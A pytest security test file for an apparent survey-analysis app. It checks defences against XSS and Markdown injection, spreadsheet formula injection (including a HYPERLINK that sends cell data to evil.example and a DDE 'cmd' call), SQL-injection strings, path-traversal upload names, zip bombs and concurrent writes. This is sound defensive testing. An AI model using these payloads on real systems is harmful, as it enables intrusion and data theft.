"""Hostile input: each attack with the defence that stops it (script and Markdown injection,
spreadsheet formulas, path tricks in uploads, zip bombs and oversized files, SQL-like strings,
two sessions writing at once)."""

from __future__ import annotations

import csv
import json
import threading
import time
import tracemalloc
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from sqlalchemy import func, select

from lab_app.cli.exchange import EXPORTS
from lab_app.core import audit as audit_log
from lab_app.core.schema import extracts, votes
from lab_app.core.settings import Settings
from lab_app.material import consent
from lab_app.material.uploads import save_upload, uploads_dir
from lab_app.opinions import participation
from lab_app.people import accounts
from lab_app.ui.components import safe_markdown
from lab_app.workspace import Workspace
from tests.hostile_workbooks import declaring

SCRIPT = "<script>alert('x')</script> Evening groups <img src=x onerror=alert(1)> help me"
LINK = "Groups help [click here](javascript:alert(1)) and ![pic](http://evil.example/t.png)"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click") peer groups near home'
FORMULAS = ("=cmd|' /C calc'!A0 more groups", "+SUM(1,2) groups", "@SUM(1) groups", "-2+3 groups")
SQLISH = "Robert'); DROP TABLE extracts;-- groups at the library"
HOSTILE = [SCRIPT, LINK, FORMULA, *FORMULAS, SQLISH]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAGES = Path(__file__).resolve().parents[2] / "lab_app" / "ui" / "pages"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A workspace holding a survey and contribution export full of hostile text."""
    base = tmp_path_factory.mktemp("hostile")
    survey = base / "hostile-survey.csv"
    with survey.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["respondent_id", "region", "What would help you find a peer group?"])
        for n, text in enumerate(HOSTILE, 1):
            writer.writerow([f"r{n}", "=1+1" if n == 1 else "Wales", text])
    posts = base / "hostile-posts.json"
    posts.write_text(
        json.dumps(
            [
                {
                    "id": f"p{n}",
                    "author": "=evil()" if n == 1 else f"poster{n}",
                    "text": text,
                    "date": f"2026-03-{20 - n:02d}",  # the most hostile ones newest
                }
                for n, text in enumerate(HOSTILE, 1)
            ]
        ),  # fmt: skip
        encoding="utf-8",
    )
    ws = Workspace(Settings.from_env(home=base / "home"))
    outcomes = list(ws.ingest([survey, posts], root=base))
    assert [o.status for o in outcomes] == ["ingested", "ingested"]
    ws.build_themes()
    accounts.add_user(ws.store.engine, "hostile-staff", "staff", password="hostile-password")
    return ws


# --- HTML, JavaScript and Markdown -----------------------------------------------------------


@pytest.mark.parametrize("text", [SCRIPT, LINK, "# Heading\n> quote\n**bold** `code`"])
def test_safe_markdown_leaves_no_html_link_image_or_formatting(text):
    rendered = MarkdownIt("commonmark", {"html": True}).render(safe_markdown(text))
    for tag in ("<script", "<img", "<a ", "<h1", "<blockquote", "<strong", "<code"):
        assert tag not in rendered


def _run_page(page: str, **widgets):
    """Run one page as signed-in staff (QLAB_HOME points at the workspace), then set widgets."""
    from streamlit.testing.v1 import AppTest

    from lab_app.ui.auth import SESSION_KEY

    at = AppTest.from_file(str(PAGES / page), default_timeout=120)
    at.session_state[SESSION_KEY] = {"name": "hostile-staff", "role": "staff", "at": time.time()}
    at.run()
    for key, value in widgets.items():
        widget = at.radio(key=key) if key == "explore-view" else at.text_input(key=key)
        (widget.set_value if key == "explore-view" else widget.input)(value)
        at.run()
    return at


def _shown(at) -> list[str]:
    return [str(e.value) for kind in ("markdown", "caption") for e in getattr(at, kind)]


def _assert_inert(shown: list[str]) -> None:
    """Hostile words reached the page, and only as escaped text."""
    text = "\n".join(shown)
    assert "alert" in text  # the words are there...
    rendered = MarkdownIt("commonmark", {"html": True}).render(text)
    for tag in ("<script", "<img", "<a "):  # ...but nothing became HTML, a link or an image
        assert tag not in rendered


def test_contributions_with_script_and_markdown_show_as_text(hostile, monkeypatch):
    monkeypatch.setenv("QLAB_HOME", str(hostile.settings.home))
    at = _run_page("overview.py")
    assert not at.exception
    _assert_inert(_shown(at))


def test_survey_answers_with_script_and_markdown_show_as_text_in_search(hostile, monkeypatch):
    monkeypatch.setenv("QLAB_HOME", str(hostile.settings.home))
    at = _run_page(
        "explore.py",
        **{"explore-view": "Search", "explore-query": "peer groups click here script alert"},
    )
    assert not at.exception
    _assert_inert(_shown(at))


# --- spreadsheet formulas --------------------------------------------------------------------


def _cells(path, what: str) -> list[str]:
    if what == "xlsx":
        from openpyxl import load_workbook

        book = load_workbook(path)
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    files = sorted(path.rglob("*.csv")) if path.is_dir() else [path]  # Pol.is: a folder
    cells = []
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as handle:
            cells.extend(cell for row in csv.reader(handle) for cell in row)
    return cells


@pytest.mark.parametrize("what", [w for w in EXPORTS if w not in ("qdc", "qdpx")])
def test_no_export_hands_a_spreadsheet_a_formula(hostile, tmp_path, what):
    """Every export a spreadsheet opens (REFI-QDA files are XML for QDA tools, not sheets)."""
    out = tmp_path / f"export.{what}"
    if what == "extracts":
        hostile.export_extracts(out)
    else:
        from lab_app import exchange

        for extract_id in hostile.store.extract_ids():  # Pol.is statements are voted ones
            participation.vote(hostile.store.engine, "voter", extract_id, 1)

        try:
            exchange.export(hostile, what, out)
        except ValueError as err:
            if "not part of this version" in str(err):
                pytest.skip(str(err))
            raise
    cells = _cells(out, what)
    hostile_cells = [c for c in cells if any(h.lstrip("=+-@")[:12] in c for h in HOSTILE)]
    assert hostile_cells, "the hostile answers are in the export"
    assert not [c for c in cells if c.startswith(FORMULA_START)]


# --- uploads ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/cron.d/evil.csv",
        "..\\..\\windows\\evil.csv",
        "/absolute/evil.csv",
        "evil\u202evsc.exe.csv",  # a right-to-left override disguising the suffix
        "nul\x00byte.csv",
        "CON.csv",
        "..evil.csv",
        "new\nline.csv",
    ],
)
def test_odd_upload_names_stay_inside_the_uploads_folder(tmp_path, name):
    saved = save_upload(tmp_path, name, b"id,text\n1,hello there\n", max_file_mb=1)
    assert saved.path.parent == uploads_dir(tmp_path).resolve()
    assert not any(c in saved.path.name for c in ("/", "\\", "\x00", "\n", "\u202e"))


def test_an_oversized_upload_is_refused_within_the_settings_limit(tmp_path):
    with pytest.raises(ValueError, match="over the 1 MB limit"):
        save_upload(tmp_path, "big.csv", b"x" * 1_100_000, max_file_mb=1)
    assert not any(uploads_dir(tmp_path).glob("*")) if uploads_dir(tmp_path).exists() else True


def _zip_bomb(path, unpacked_mb: int) -> None:
    """A DOCX whose document.xml unpacks to `unpacked_mb` MB from a few kilobytes."""
    body = b"<w:t>" + b"A" * (unpacked_mb * 1_000_000) + b"</w:t>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", body)


def test_a_docx_zip_bomb_and_an_oversized_file_are_refused_by_the_settings_limits(tmp_path):
    settings = replace(Settings.from_env(home=tmp_path / "home"), max_unpacked_mb=2, max_file_mb=1)
    ws = Workspace(settings)
    bomb = tmp_path / "bomb.docx"
    _zip_bomb(bomb, unpacked_mb=5)
    assert bomb.stat().st_size < 100_000
    big = tmp_path / "big.txt"
    big.write_text("peer support " * 100_000, encoding="utf-8")  # 1.3 MB
    outcomes = {o.path.rsplit("/", 1)[-1]: o for o in ws.ingest([bomb, big], root=tmp_path)}
    assert outcomes["bomb.docx"].status == "refused"
    assert "over the 2 MB limit" in outcomes["bomb.docx"].reason
    assert outcomes["big.txt"].status == "refused"
    assert "over the 1 MB limit" in outcomes["big.txt"].reason
    assert ws.status()["extracts"] == 0


def test_a_workbook_declaring_two_gigabytes_is_refused_on_the_cli_fast_and_others_ingest(
    tmp_path, capsys
):
    # The reported case: an XLSX whose sheet declared 2 GB ran 4 minutes and took 3 GB.
    from lab_app.cli.qlab import main

    folder = tmp_path / "in"
    folder.mkdir()
    bomb = declaring(folder / "bomb.xlsx", 2 * 1024**3)
    assert bomb.stat().st_size < 10_000
    survey = folder / "survey.csv"
    survey.write_text(
        "respondent_id,What would help you find a peer group?\n"
        "r1,A group that meets in the evening near the station\n"
        "r2,Someone to walk in with me the first time\n"
        "r3,Nothing\n",
        encoding="utf-8",
    )
    home = str(tmp_path / "home")
    Workspace(Settings.from_env(home=home)).repair_index()  # store and index made beforehand
    tracemalloc.start()
    started = time.perf_counter()
    try:
        code = main(["--home", home, "ingest", str(bomb)])
        seconds, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    (line, summary) = capsys.readouterr().out.splitlines()
    assert code == 1 and line.startswith("refused ") and line.endswith(
        "bomb.xlsx: unpacks to 2,147 MB, over the 500 MB limit (QLAB_MAX_UNPACKED_MB): "
        "split the workbook or raise the limit"
    )  # fmt: skip
    assert seconds < 10 and peak < 50_000_000  # 0.1 s and 2 MB here
    # In one ingest with a good file: the bomb is refused, the survey goes in.
    assert main(["--home", home, "ingest", str(folder)]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("refused ") and "bomb.xlsx: unpacks to 2,147 MB" in lines[0]
    assert lines[1].endswith("survey.csv: 2 extracts (1 non-answer kept aside)")
    assert lines[2].startswith("2 files: 1 ingested (2 extracts), 0 unchanged, 1 refused")


# --- SQL-like strings ------------------------------------------------------------------------


def test_sql_like_strings_in_search_and_filters_are_only_text(hostile):
    engine = hostile.store.engine

    def count() -> int:
        with engine.connect() as conn:
            return conn.execute(select(func.count()).select_from(extracts)).scalar()

    before = count()
    hits = hostile.search(SQLISH, k=5)
    assert hits and hits[0]["text"].startswith("Robert'); DROP TABLE")
    assert hostile.search("' OR '1'='1", k=3, kind="survey")
    assert audit_log.read(engine, action="x' OR '1'='1") == []
    assert audit_log.read(engine, who="' OR 1=1 --") == []
    assert accounts.get_user(engine, "' OR 1=1 --") is None
    assert accounts.authenticate(engine, "hostile-staff' --", "anything") is None
    consent.set_consent(engine, "person", SQLISH, "staff", show_to_participants=False)
    assert consent.consent_of(engine, "person", SQLISH)["show_to_participants"] is False
    from lab_app.themes.views import attribute_matrix

    assert attribute_matrix(engine, "region' OR '1'='1")["themes"] == []
    assert count() == before


# --- two sessions at once --------------------------------------------------------------------


def test_two_sessions_voting_at_once_keep_exactly_one_vote_each(hostile):
    engine = hostile.store.engine
    statement = sorted(hostile.store.extract_ids())[0]
    barrier = threading.Barrier(4)
    errors = []

    def session(participant: str, value: int) -> None:
        try:
            barrier.wait()
            for _ in range(10):
                participation.vote(engine, participant, statement, value)
        except Exception as err:  # collected: a thread's exception would be lost otherwise
            errors.append(err)

    threads = [
        threading.Thread(target=session, args=(name, value))
        for name in ("ann", "bo")
        for value in (1, -1)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    with engine.connect() as conn:
        query = select(votes.c.participant).where(
            votes.c.statement == statement, votes.c.participant.in_(["ann", "bo"])
        )
        assert sorted(conn.execute(query).scalars()) == ["ann", "bo"]


def test_two_staff_approving_at_once_lose_neither_contribution(hostile):
    engine = hostile.store.engine
    ids = [
        participation.submit_contribution(engine, f"writer{n}", f"Note {n}: a walking group helped")
        for n in (1, 2)
    ]
    other = Workspace(hostile.settings)  # a second session's own connection pool
    barrier = threading.Barrier(2)
    outcomes, errors = [], []

    def approve(workspace, pending_id):
        try:
            barrier.wait()
            outcomes.append(participation.approve(workspace, pending_id, "staff"))
        except Exception as err:
            errors.append(err)

    threads = [
        threading.Thread(target=approve, args=(hostile, ids[0])),
        threading.Thread(target=approve, args=(other, ids[1])),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    with engine.connect() as conn:
        texts = set(
            conn.execute(select(extracts.c.text).where(extracts.c.text.like("Note _: %"))).scalars()
        )
    assert texts == {"Note 1: a walking group helped", "Note 2: a walking group helped"}
